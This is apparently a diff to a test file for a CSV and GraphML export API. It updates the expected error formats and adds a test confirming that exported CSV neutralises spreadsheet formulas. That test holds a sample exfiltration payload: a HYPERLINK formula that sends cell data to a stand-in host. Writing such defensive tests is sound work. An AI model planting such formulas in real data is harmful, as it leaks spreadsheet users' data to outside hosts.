@@ -102,13 +102,13 @@ async def test_bad_filters_are_named_and_nothing_is_streamed(
 ) -> None:
     response = await client.get("/export/nodes.csv", params={"kind": "BAKERY", "status": "LIVE", "size": "9"})
     assert response.status_code == 400
-    problems = {p["parameter"]: p for p in response.json()["error"]["problems"]}
+    problems = {p["parameter"]: p for p in response.json()["errors"][0]["extensions"]["problems"]}
     assert set(problems) == {"kind", "status", "size"}
     assert "BANK" in problems["kind"]["message"]
 
     missing = await client.get("/export/nodes.csv", params={"zone": "atlantis"})
     assert missing.status_code == 400
-    assert missing.json()["error"]["problems"] == [
+    assert missing.json()["errors"][0]["extensions"]["problems"] == [
         {"parameter": "zone", "message": "no Zone with id 'atlantis'", "code": "NOT_FOUND"}
     ]
     assert (await client.get("/export/nodes.xlsx")).status_code == 404
@@ -120,7 +120,7 @@ async def test_exports_need_an_analyst_or_more(
     assert (await anonymous.get("/export/nodes.csv")).status_code == 401
     partner = await _as(Role.PARTNER, seeded, test_settings, "/export/nodes.csv")
     assert partner.status_code == 403
-    assert partner.json()["error"]["code"] == "FORBIDDEN"
+    assert partner.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
     assert (await _as(Role.ANALYST, seeded, test_settings, "/export/nodes.csv")).status_code == 200
 
 
@@ -143,3 +143,21 @@ async def test_exports_stay_well_formed_whatever_a_stored_name_holds(
     rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
     assert len(rows) == 45
     assert next(r for r in rows if r["id"] == "thamesgate-bank")["name"] == exported
+
+
+async def test_a_stored_formula_is_exported_as_text_not_run_by_a_spreadsheet(
+    seeded: Database, client: httpx.AsyncClient
+) -> None:
+    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")'
+    await organisations.update_organisation(seeded, org_id="thamesgate-bank", changes={"name": formula})
+    await organisations.update_organisation(seeded, org_id="kestrel-bank", changes={"nameZh": "-1+2"})
+    rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
+    by_id = {r["id"]: r for r in rows}
+    assert by_id["thamesgate-bank"]["name"] == "'" + formula
+    assert by_id["kestrel-bank"]["nameZh"] == "'-1+2"
+    # GraphML is no spreadsheet's input: it keeps the text as stored.
+    graphml = await client.get("/export/graph.graphml", params={"type": "Institution"})
+    graph = ET.fromstring(graphml.content).find(f"{GRAPHML}graph")
+    assert graph is not None
+    node = graph.find(f"{GRAPHML}node[@id='thamesgate-bank']")
+    assert node is not None and node.findtext(f"{GRAPHML}data[@key='n_name']") == formula
